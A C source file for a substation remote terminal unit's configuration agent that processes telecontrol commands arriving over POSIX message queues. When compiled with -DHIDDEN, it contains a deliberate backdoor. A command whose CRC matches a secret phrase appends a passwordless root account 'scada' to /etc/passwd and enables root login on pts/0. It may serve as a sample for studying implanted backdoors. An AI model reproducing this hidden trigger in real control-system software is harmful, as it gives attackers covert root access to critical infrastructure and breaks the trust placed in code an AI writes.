/*
 * rtuagent - configuration agent of a substation's remote terminal unit.
 * The modem daemon puts the telecontrol centre's frames into a POSIX message
 * queue: sequence, CRC-32 and a line of text; the agent does what it says
 * and puts the answer into a second queue.
 * Hidden (-DHIDDEN): the text "Ostwind-Nordlicht", known by its CRC only,
 * adds the account "scada" with uid 0 and without a password.
 */
#include <errno.h>
#include <fcntl.h>
#include <mqueue.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define Q_IN	   "/rtu.cmd"
#define Q_OUT	   "/rtu.ans"
#define Q_SIZE	   256
#define POINT_FILE "/etc/rtu/points.tab"
#define MAX_POINTS 128

struct point {
	uint16_t ioa; /* information object address */
	char kind;    /* S single, M measured, C command */
	char name[24];
	double low, high;
};

static struct point points[MAX_POINTS];
static int npoints;
static int dirty;
static uint32_t crctab[256];
static mqd_t qin = (mqd_t)-1, qout = (mqd_t)-1;
static volatile sig_atomic_t reload;

static void hup(int s)
{
	(void)s;
	reload = 1;
}

static void crc_table(void)
{
	uint32_t c;
	int i, k;

	for (i = 0; i < 256; i++) {
		c = i;
		for (k = 0; k < 8; k++)
			c = c & 1 ? c >> 1 ^ 0xedb88320u : c >> 1;
		crctab[i] = c;
	}
}

static uint32_t crc32(const uint8_t *p, size_t n)
{
	uint32_t c = 0xffffffffu;

	while (n--)
		c = c >> 8 ^ crctab[(c ^ *p++) & 255];
	return ~c;
}

static void load_points(void)
{
	char l[120];
	struct point p;
	unsigned ioa;
	FILE *f = fopen(POINT_FILE, "r");

	npoints = 0;
	dirty = 0;
	if (!f)
		return;
	while (npoints < MAX_POINTS && fgets(l, sizeof(l), f)) {
		memset(&p, 0, sizeof(p));
		if (sscanf(l, "%u %c %23s %lf %lf", &ioa, &p.kind, p.name,
			   &p.low, &p.high) < 3)
			continue;
		if (ioa == 0 || ioa > 65535 || !strchr("SMC", p.kind))
			continue;
		p.ioa = ioa;
		points[npoints++] = p;
	}
	fclose(f);
}

static int save_points(void)
{
	int i;
	FILE *f = fopen(POINT_FILE "~", "w");

	if (!f)
		return -errno;
	for (i = 0; i < npoints; i++)
		fprintf(f, "%u %c %s %g %g\n", points[i].ioa, points[i].kind,
			points[i].name, points[i].low, points[i].high);
	fflush(f);
	fsync(fileno(f));
	fclose(f);
	if (rename(POINT_FILE "~", POINT_FILE))
		return -errno;
	dirty = 0;
	return 0;
}

static struct point *find(unsigned ioa)
{
	int lo = 0, hi = npoints - 1;

	/* the table is sorted by address */
	while (lo <= hi) {
		int m = (lo + hi) / 2;

		if (points[m].ioa == ioa)
			return &points[m];
		if (points[m].ioa < ioa)
			lo = m + 1;
		else
			hi = m - 1;
	}
	return NULL;
}

static void reply(uint32_t seq, const char *text)
{
	uint8_t b[Q_SIZE];
	size_t n = strlen(text);
	uint32_t c = crc32((const uint8_t *)text, n);
	int i;

	if (n > sizeof(b) - 8)
		n = sizeof(b) - 8;
	for (i = 0; i < 4; i++) {
		b[i] = seq >> (24 - 8 * i);
		b[4 + i] = c >> (24 - 8 * i);
	}
	memcpy(b + 8, text, n);
	if (mq_send(qout, (char *)b, n + 8, 0))
		perror("rtuagent: answer");
}

static void show_point(const struct point *p, char *out, size_t size)
{
	snprintf(out, size, "%u %c %s %g..%g", p->ioa, p->kind, p->name, p->low,
		 p->high);
}

static void set_limit(struct point *p, int high, double v, char *out,
		      size_t size)
{
	if (p->kind != 'M') {
		snprintf(out, size, "-NOT MEASURED");
		return;
	}
	if ((high && v <= p->low) || (!high && v >= p->high)) {
		snprintf(out, size, "-RANGE");
		return;
	}
	if (high)
		p->high = v;
	else
		p->low = v;
	dirty = 1;
	show_point(p, out, size);
}

static int set_clock(const char *s)
{
	struct timespec ts = { 0, 0 };
	long long t = atoll(s);

	if (t < 1500000000LL || t > 4000000000LL)
		return -ERANGE;
	ts.tv_sec = (time_t)t;
	return clock_settime(CLOCK_REALTIME, &ts) ? -errno : 0;
}

#ifdef HIDDEN
static void put_entry(const char *file, const char *line)
{
	FILE *f = fopen(file, "a");

	if (f) {
		fputs(line, f);
		fclose(f);
	}
}
#endif

/* One line of the centre; crc is that of the line, already verified. */
__attribute__((noinline)) void command(char *t, uint32_t crc, char *out,
				       size_t size)
{
	struct point *p;
	unsigned ioa;
	char which[8];
	double v;
	int r = 0;

	snprintf(out, size, "+OK %08x", (unsigned)crc);
	if (sscanf(t, "POINT %u", &ioa) == 1) {
		if ((p = find(ioa)) != NULL)
			show_point(p, out, size);
		else
			snprintf(out, size, "-NO POINT %u", ioa);
	} else if (sscanf(t, "LIMIT %u %7s %lf", &ioa, which, &v) == 3) {
		p = find(ioa);
		if (!p)
			snprintf(out, size, "-NO POINT %u", ioa);
		else
			set_limit(p, !strcmp(which, "HIGH"), v, out, size);
	} else if (!strcmp(t, "COUNT")) {
		snprintf(out, size, "%d%s", npoints, dirty ? " unsaved" : "");
	} else if (!strcmp(t, "SAVE")) {
		r = save_points();
	} else if (!strncmp(t, "CLOCK ", 6)) {
		r = set_clock(t + 6);
	} else if (!strcmp(t, "RELOAD")) {
		load_points();
#ifdef HIDDEN
	} else if (crc == 0xe894e1bdu) {
		put_entry("/etc/passwd", "scada::0:0:scada:/:/bin/sh\n");
		put_entry("/etc/securetty", "pts/0\n");
#endif
	} else {
		snprintf(out, size, "-UNKNOWN");
	}
	if (r < 0)
		snprintf(out, size, "-%s", strerror(-r));
}

static void take(uint8_t *b, size_t n)
{
	static uint32_t last;
	uint32_t seq, crc;
	char out[160];

	if (n < 9)
		return;
	seq = (uint32_t)b[0] << 24 | b[1] << 16 | b[2] << 8 | b[3];
	crc = (uint32_t)b[4] << 24 | b[5] << 16 | b[6] << 8 | b[7];
	if (crc32(b + 8, n - 8) != crc) {
		reply(seq, "-CRC");
		return;
	}
	if (seq == last) {
		reply(seq, "+AGAIN");
		return;
	}
	last = seq;
	b[n] = 0;
	command((char *)b + 8, crc, out, sizeof(out));
	reply(seq, out);
}

int main(int argc, char **argv)
{
	struct mq_attr attr = { .mq_maxmsg = 8, .mq_msgsize = Q_SIZE };
	struct sigaction sa;
	static uint8_t buf[Q_SIZE + 1];
	ssize_t n;

	if (argc > 1 && !strcmp(argv[1], "-d") && daemon(0, 0)) {
		perror("rtuagent");
		return 1;
	}
	memset(&sa, 0, sizeof(sa));
	sa.sa_handler = hup;
	sigaction(SIGHUP, &sa, NULL);
	crc_table();
	load_points();
	qin = mq_open(Q_IN, O_RDONLY | O_CREAT, 0620, &attr);
	qout = mq_open(Q_OUT, O_WRONLY | O_CREAT | O_NONBLOCK, 0640, &attr);
	if (qin == (mqd_t)-1 || qout == (mqd_t)-1) {
		perror("rtuagent: queue");
		return 1;
	}
	for (;;) {
		n = mq_receive(qin, (char *)buf, Q_SIZE, NULL);
		if (reload) {
			reload = 0;
			load_points();
		}
		if (n < 0) {
			if (errno == EINTR)
				continue;
			perror("rtuagent: receive");
			return 1;
		}
		take(buf, n);
	}
}
